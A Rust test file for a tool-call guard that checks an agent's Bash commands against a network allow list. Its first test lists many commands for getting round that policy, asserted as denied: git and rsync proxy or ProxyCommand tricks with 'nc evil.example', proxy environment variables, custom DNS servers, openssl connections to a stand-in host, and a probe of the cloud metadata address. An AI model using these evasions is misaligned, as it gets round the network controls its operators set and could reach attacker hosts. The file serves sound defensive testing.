//! Evasions of the network policy through a program's own options, its environment or a
//! program the policy did not read: each is denied when the real destination is not allowed,
//! and the everyday forms of the same programs still pass under an allow list.

use std::sync::Arc;

use serde_json::json;
use toolgate_core::Verdict;
use toolgate_engine::{Guard, ToolCallDecision};
use toolgate_policy::{Format, PolicySource, load_str};

/// The decision on a Bash call running `command`.
pub(crate) fn bash(guard: &Guard, command: &str) -> ToolCallDecision {
    guard.check_tool_call("Bash", &json!({ "command": command }))
}

/// github.com is allowed; nothing else. (A package manager's default registry is no
/// destination the text names, so `pip install requests` needs no entry.)
pub(crate) fn guard() -> Guard {
    let policy = load_str(
        "network:\n  allow: [github.com, \"*.github.com\"]\n",
        Format::Yaml,
        PolicySource::Builtin,
    );
    assert!(policy.is_usable(), "{}", policy.render_diagnostics());
    Guard::new(Arc::new(policy))
}

#[test]
fn destinations_hidden_in_options_and_environment_are_denied() {
    let g = guard();
    for command in [
        // git settings that reach the clone: `clone --config` and the environment forms of `-c`.
        "git clone --config core.sshCommand='ssh -J evil.example' git@github.com:o/r",
        "git clone -c core.sshCommand='ssh -o ProxyCommand=\"nc evil.example 22\"' git@github.com:o/r",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.proxy GIT_CONFIG_VALUE_0=http://evil.example git clone https://github.com/o/r",
        "GIT_CONFIG_PARAMETERS=\"'http.proxy'='http://evil.example'\" git clone https://github.com/o/r",
        // rsync's remote shell: ssh's options there decide where it connects.
        "rsync -e 'ssh -J evil.example' x github.com:/tmp",
        "rsync --rsh='ssh -o HostName=evil.example' x github.com:/tmp",
        "rsync -e 'ssh -o ProxyCommand=\"nc evil.example 22\"' x github.com:/tmp",
        "rsync -e 'ssh -F cfg' x github.com:/tmp",
        // Proxies and configuration files in the environment.
        "npm_config_proxy=http://evil.example npm i lodash",
        "NPM_CONFIG_HTTPS_PROXY=http://evil.example npm i lodash",
        "RSYNC_PROXY=evil.example:80 rsync x rsync://github.com/m",
        "CURL_HOME=/tmp/x curl https://github.com",
        "WGETRC=/tmp/x wget https://github.com",
        "PIP_CONFIG_FILE=/tmp/x pip install requests",
        "NPM_CONFIG_USERCONFIG=/tmp/x npm i lodash",
        // Proxies stored for later runs.
        "npm config set proxy http://evil.example:3128",
        "npm config set https-proxy=http://evil.example:3128",
        "pip config set global.proxy evil.example:3128",
        // curl's name servers.
        "curl --dns-servers 203.0.113.9 https://github.com",
        "curl --dns-servers=8.8.8.8,evil.example https://github.com",
        // openssl's clients.
        "openssl s_client -connect evil.example:443",
        "openssl s_client evil.example:443",
        "openssl s_client -connect github.com:443 -proxy evil.example:8080",
        "openssl s_client -host evil.example -port 443",
        "openssl ocsp -url http://evil.example/ -issuer i.pem -cert c.pem",
        // A lookup's name server, a probe's host.
        "dig @evil.example github.com",
        "dig +short @8.8.8.8 github.com",
        "kdig @evil.example github.com",
        "drill github.com @evil.example",
        "nslookup github.com evil.example",
        "nslookup -type=TXT github.com evil.example",
        "host github.com evil.example",
        "whois -h evil.example github.com",
        "ping -c 3 evil.example",
        "ping6 evil.example",
        "traceroute evil.example",
        "tracepath -p 8080 evil.example",
        "mtr -r evil.example",
        "mtr -F hosts.txt",
        "sudo arping -c 5 evil.example",
        "ping -c1 169.254.169.254",
        "ping -c1 10.0.0.1",
        "ping -c1 gw.example github.com",
        "ping -c1 1199092913",
    ] {
        let d = bash(&g, command);
        assert_eq!(d.decision, Verdict::Deny, "{command}: {}", d.reason);
    }
}

#[test]
fn everyday_forms_of_the_same_programs_pass() {
    let g = guard();
    for command in [
        "curl https://github.com/x",
        "curl -fsSL https://github.com/o/r/archive/main.tar.gz -o r.tgz",
        "pip install requests",
        "npm install lodash",
        "git clone https://github.com/o/r",
        "git clone --depth 1 -c core.autocrlf=false https://github.com/o/r",
        "rsync -e ssh x github.com:/tmp",
        "rsync -avz -e 'ssh -p 2222 -i ~/.ssh/id_ed25519' x github.com:/tmp",
        "PIP_CONFIG_FILE=/dev/null pip install requests",
        "npm config set fund false",
        "pip config set global.timeout 60",
        "openssl s_client -connect github.com:443 -servername github.com",
        "openssl x509 -in cert.pem -noout -text",
        "dig github.com",
        "dig +short github.com A",
        "dig -x 140.82.112.3",
        "nslookup github.com",
        "host -t MX github.com",
        "whois github.com",
        "ping -c 3 github.com",
        "traceroute -n github.com 60",
        "mtr -r -c 10 github.com",
        "ping -c 1 127.0.0.1",
        "ping -n 1 %ip%",
    ] {
        let d = bash(&g, command);
        assert!(d.decision < Verdict::Review, "{command}: {}", d.reason);
    }
}
